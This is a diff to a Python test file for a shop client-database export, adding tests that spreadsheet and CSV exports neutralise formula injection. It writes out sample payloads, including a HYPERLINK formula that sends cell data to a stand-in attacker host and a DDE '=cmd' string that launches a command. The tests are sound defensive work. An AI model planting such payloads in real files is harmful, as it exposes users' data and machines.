@@ -10,6 +10,9 @@ from decimal import Decimal
 from pathlib import Path
 
 import pytest
+from hypothesis import given
+from hypothesis import settings as hyp_settings
+from hypothesis import strategies as st
 from openpyxl import load_workbook
 from sqlalchemy import func, select
 
@@ -23,7 +26,9 @@ from app.models.enums import (
 )
 from app.services import clients as cs
 from app.services.complaints import open_complaint
-from app.services.io.export import client_data, erase_client, export_table, merge_clients
+from app.services.io.export import (
+    FORMULA_START, client_data, csv_text, erase_client, export_table, merge_clients,
+)
 from app.services.validation import phone_digits
 
 TODAY = date(2026, 11, 1)
@@ -158,7 +163,8 @@ def expected_clients(db, ids) -> list[list[str]]:
         lucja, yulia = s.get(Client, ids["lucja"]), s.get(Client, ids["yulia"])
         created = {c.id: dt_text(c.created_at) for c in (lucja, yulia)}
     return [
-        [str(ids["lucja"]), "Łucja Żółtowska", "person", "K-001", "+48601234567",
+        # a phone beginning with "+" is written as text: Excel would read it as a number
+        [str(ids["lucja"]), "Łucja Żółtowska", "person", "K-001", "'+48601234567",
          "lucja@example.pl", "phone", "0", "1", "2026-01-15", "polecenie", "", "A",
          "rodzina", "VIP", "2026-03-01", "2026-05-10", "2", "112.50", "bez glutenu",
          "Lubi róże", created[ids["lucja"]]],
@@ -810,3 +816,110 @@ def test_merge_unknown_client(db, make_client, missing):
     with db.session() as s:
         assert s.get(Client, cid) is not None
         assert count_where(s, Purchase, cid) == 1
+
+
+# --------------------------------------------------------------------------- spreadsheet safety
+
+DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)",
+             "\tcmd", "\r=1+1", "=1+1"]
+
+
+def dangerous_shop(db) -> int:
+    """A client, a purchase and a call whose texts all look like formulas (as an import
+    of someone else's file can bring them)."""
+    cid = save(db, cs.ClientData(
+        name="Anna Nowak", phone="601 234 567", notes=DANGEROUS[0], preferences=DANGEROUS[3],
+        source_channel=DANGEROUS[2], segment_override=Segment.B,
+        segment_override_reason=DANGEROUS[1], tags=["=cmd|' /C calc'!A0"],
+        purchases=purchases((date(2026, 3, 1), "-7.05", DANGEROUS[6], DANGEROUS[4], True),
+                            (date(2026, 3, 2), "12.50", DANGEROUS[3]))))
+    with db.session() as s:
+        add_contact(s, cid, datetime(2026, 5, 3, 14, 30), note=DANGEROUS[1],
+                    decline_reason=DANGEROUS[3])
+    return cid
+
+
+@pytest.mark.parametrize("what", ["clients", "purchases", "contacts"])
+def test_xlsx_never_holds_a_formula_and_text_stays_text(db, tmp_path, what):
+    dangerous_shop(db)
+    path = tmp_path / f"{what}.xlsx"
+    with db.session() as s:
+        export_table(s, what, path)
+    wb = load_workbook(path)
+    cells = [c for row in wb.active.iter_rows() for c in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    texts = {c.value for c in cells if c.data_type == "s"}
+    expected = {"clients": {DANGEROUS[0], DANGEROUS[3], DANGEROUS[2], DANGEROUS[1],
+                            "=cmd|' /C calc'!A0", "+48601234567"},
+                "purchases": {DANGEROUS[6], DANGEROUS[3]},
+                "contacts": {DANGEROUS[1], DANGEROUS[3]}}[what]
+    assert expected <= texts
+    # numbers stay numbers: the refund is a negative number, not text
+    if what == "purchases":
+        amounts = [r[7] for r in wb.active.iter_rows(min_row=2, values_only=True)]
+        assert amounts == [-7.05, 12.5]
+
+
+@pytest.mark.parametrize("what", ["clients", "purchases", "contacts"])
+def test_csv_defuses_formula_text_with_an_apostrophe(db, tmp_path, what):
+    dangerous_shop(db)
+    path = tmp_path / f"{what}.csv"
+    with db.session() as s:
+        export_table(s, what, path)
+    rows = read_csv(path)
+    cells = [v for r in rows[1:] for v in r]
+    for v in cells:
+        bare = v.removeprefix("'")
+        if bare in DANGEROUS or bare.startswith(("+48", "=cmd")):
+            assert v.startswith("'"), v
+    assert not [v for v in cells if v.startswith(("=", "+", "@", "\t", "\r"))]
+    if what == "purchases":
+        assert [r[7] for r in rows[1:]] == ["-7.05", "12.50"]  # numbers unchanged
+        assert [r[5] for r in rows[1:]] == ["'=1+1", "'@SUM(A1:A9)"]
+    if what == "clients":
+        r = dict(zip(CLIENT_KEYS, rows[1], strict=True))
+        assert (r["phone"], r["notes"], r["source_channel"]) == (
+            "'+48601234567", "'" + DANGEROUS[0], "'-2+3")
+
+
+@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=30))
+@hyp_settings(max_examples=200, deadline=None)
+def test_csv_text_never_begins_a_formula_and_keeps_the_text(text):
+    out = csv_text(text)
+    assert not out.startswith(FORMULA_START)
+    assert out == text or out == "'" + text
+
+
+def test_labels_turn_codes_into_words_in_both_formats(db, tmp_path):
+    dangerous_shop(db)
+    words = {("kind", "person"): "Osoba", ("do_not_contact", False): "Nie",
+             ("marketing_consent", False): "Nie", ("refund", True): "Tak",
+             ("refund", False): "Nie", ("channel", "phone"): "Telefon",
+             ("direction", "outbound"): "Wychodzący", ("purpose", "follow_up"): "Po zakupie",
+             ("outcome", "reached"): "Rozmowa", ("tone", ""): "?"}
+
+    def label(key, value):
+        return words[key, value]
+
+    with db.session() as s:
+        export_table(s, "clients", tmp_path / "c.xlsx", labels=label)
+        export_table(s, "purchases", tmp_path / "p.csv", labels=label)
+        export_table(s, "contacts", tmp_path / "k.xlsx", labels=label)
+    c = read_xlsx(tmp_path / "c.xlsx", "clients")[1]
+    assert (c[2], c[7], c[8]) == ("Osoba", "Nie", "Nie")
+    assert [r[8] for r in read_csv(tmp_path / "p.csv")[1:]] == ["Tak", "Nie"]
+    k = read_xlsx(tmp_path / "k.xlsx", "contacts")[1]
+    assert k[4:9] == ("Telefon", "Wychodzący", "Po zakupie", "Rozmowa", None)
+
+
+def test_xlsx_has_a_frozen_bold_heading_and_sized_columns(db, tmp_path):
+    dangerous_shop(db)
+    with db.session() as s:
+        export_table(s, "clients", tmp_path / "c.xlsx", {"notes": "Notatki"})
+    ws = load_workbook(tmp_path / "c.xlsx").active
+    assert ws.freeze_panes == "A2"
+    assert all(c.font.b for c in ws[1])
+    notes_col = ws.cell(1, CLIENT_KEYS.index("notes") + 1).column_letter
+    assert ws.column_dimensions[notes_col].width == len(DANGEROUS[0]) + 2
+    id_col = ws.cell(1, 1).column_letter
+    assert ws.column_dimensions[id_col].width == 8  # narrow, but never too narrow
